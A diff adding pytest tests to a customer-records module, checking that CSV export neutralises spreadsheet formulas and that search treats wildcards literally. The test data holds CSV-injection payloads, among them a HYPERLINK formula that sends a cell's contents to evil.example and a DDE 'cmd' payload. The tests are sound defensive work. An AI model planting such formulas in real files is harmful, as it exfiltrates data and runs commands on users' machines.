@@ -1,6 +1,7 @@
 """Customers: validation, masking, reveals audited, CSV import all-or-nothing."""
 from __future__ import annotations
 
+import csv
 import io
 
 import pytest
@@ -104,3 +105,43 @@ def test_admin_customer_form_errors_are_shown(client, as_role):
     resp = client.post("/admin/customers/new", data={"account_no": "8800000001", "name": "A", "phone": "xx",
                                                      "segment": "residential"})
     assert resp.status_code == 422 and "phone" in resp.get_data(as_text=True)
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+
+
+def test_export_defuses_formulas_and_reimports_unchanged(ctx):
+    made = [customers.create_customer(account_no=f"880000000{i}", name=name, phone=f"1380013800{i}",
+                                      address=name[:30], lat=-22.5, lon=-114.0)
+            for i, name in enumerate(FORMULAS)]
+    exported = customers.export_customers_csv(made)
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    assert [r["name"] for r in rows] == ["'" + name for name in FORMULAS]
+    assert all(r["address"].startswith("'") for r in rows)
+    assert rows[0]["lat"] == "-22.5" and rows[0]["lon"] == "-114.0"  # numbers stay numbers
+    names = {c.account_no: c.name for c in made}
+    for c in made:
+        db.session.delete(c)
+    db.session.flush()
+    report = customers.import_customers_csv(exported)
+    assert report.ok and report.imported == len(FORMULAS)
+    back = {c.account_no: c for c in db.session.scalars(sa.select(customers.Customer))}
+    assert {acc: c.name for acc, c in back.items()} == names
+    assert back["8800000000"].address == FORMULAS[0][:30] and back["8800000000"].lat == -22.5
+
+
+def test_search_is_literal_and_matches_a_phone_only_whole(ctx):
+    customers.create_customer(account_no="8800000001", name="Wang Fang", phone="13800138002",
+                              address="1 Shennan Rd")
+
+    def found(q):
+        return [c.account_no for c in db.session.scalars(customers.search_customers(q))]
+
+    for probe in ("1380___8002", "138%", "%", "_", "__", "1380013800_", "0013", "13800138", "8002"):
+        assert found(probe) == [], probe  # neither wildcards nor fragments tell a masked number's digits
+    customers.create_customer(account_no="8800000002", name="Li_Na 100%", phone="+8613900139000",
+                              address="2 Binhe Rd")
+    assert found("13800138002") == found("138 0013 8002") == found("+8613800138002") == ["8800000001"]
+    assert found("13900139000") == ["8800000002"]  # stored with +86, searched without
+    assert found("Fang") == found("Shennan") == found("8800000001") == ["8800000001"]
+    assert found("Li_Na") == found("100%") == ["8800000002"]  # _ and % are literal characters
